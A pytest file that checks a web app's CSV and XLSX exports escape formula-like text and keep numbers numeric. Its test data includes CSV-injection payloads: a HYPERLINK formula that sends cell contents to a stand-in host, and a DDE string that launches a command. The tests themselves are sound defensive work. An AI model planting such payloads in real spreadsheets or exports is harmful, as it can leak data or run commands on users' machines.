"""Exports never hand a spreadsheet a formula: text that starts like one is quoted (OWASP CSV
injection guidance) in CSV and XLSX alike, XLSX text cells are strings, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cpc.spreadsheets import safe_cell
from tests.contributions.factories import ContributionFactory
from tests.indicators.factories import IndicatorFactory, TargetFactory

pytestmark = pytest.mark.django_db

FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_safe_cell_quotes_formula_text_only():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for value in ("Shelter budget", "", "'=already quoted", 5, -5, Decimal("-1.5"), None):
        assert safe_cell(value) == value


def _xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_contribution_exports_neutralise_formulas(client, staff_user, ghana_compact):
    for text in FORMULAS:
        ContributionFactory(compact=ghana_compact, description=text,
                            amount_usd=Decimal("1234.50"))
    client.force_login(staff_user)
    base = f"/contributions/compacts/{ghana_compact.pk}"

    rows = list(csv.DictReader(io.StringIO(client.get(f"{base}/export.csv").content.decode(),
                                           newline="")))
    assert sorted(row["description"] for row in rows) == sorted("'" + t for t in FORMULAS)
    assert {row["amount_usd"] for row in rows} == {"1234.50"}

    sheet = _xlsx(client.get(f"{base}/export.xlsx"))
    header = [cell.value for cell in sheet[1]]
    descriptions = [row[header.index("description")] for row in sheet.iter_rows(min_row=2)]
    # (Depending on the XML parser a carriage return may read back as a line feed; the quote
    # in front is what counts.)
    assert sorted(cell.value.replace("\r", "\n") for cell in descriptions) == sorted(
        "'" + t.replace("\r", "\n") for t in FORMULAS)
    assert {cell.data_type for cell in descriptions} == {"s"}  # never "f" (formula)
    amounts = [row[header.index("amount_usd")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in amounts} == {1234.5}  # a number, not text
    assert {cell.data_type for cell in amounts} == {"n"}


def test_indicator_table_exports_neutralise_formulas(client, staff_user, ghana_compact):
    indicator = IndicatorFactory(compact=ghana_compact, code="@CODE", name="=1+2 referrals",
                                 baseline_value=Decimal("-4"), baseline_year=2021)
    TargetFactory(indicator=indicator, fiscal_year=2024, value=Decimal("20"))
    client.force_login(staff_user)
    base = f"/indicators/compact/{ghana_compact.pk}"

    [row] = list(csv.DictReader(io.StringIO(client.get(f"{base}/export.csv").content.decode(),
                                            newline="")))
    assert (row["code"], row["indicator"]) == ("'@CODE", "'=1+2 referrals")
    assert row["baseline value"] == "-4"  # a negative number is not escaped
    assert row["FY2024 target"] == "20"

    sheet = _xlsx(client.get(f"{base}/export.xlsx"))
    header = [cell.value for cell in sheet[3]]
    cells = dict(zip(header, sheet[4], strict=True))
    assert (cells["code"].value, cells["indicator"].value) == ("'@CODE", "'=1+2 referrals")
    assert cells["code"].data_type == cells["indicator"].data_type == "s"
    assert cells["baseline value"].value == -4 and cells["baseline value"].data_type == "n"
    assert cells["FY2024 target"].value == 20
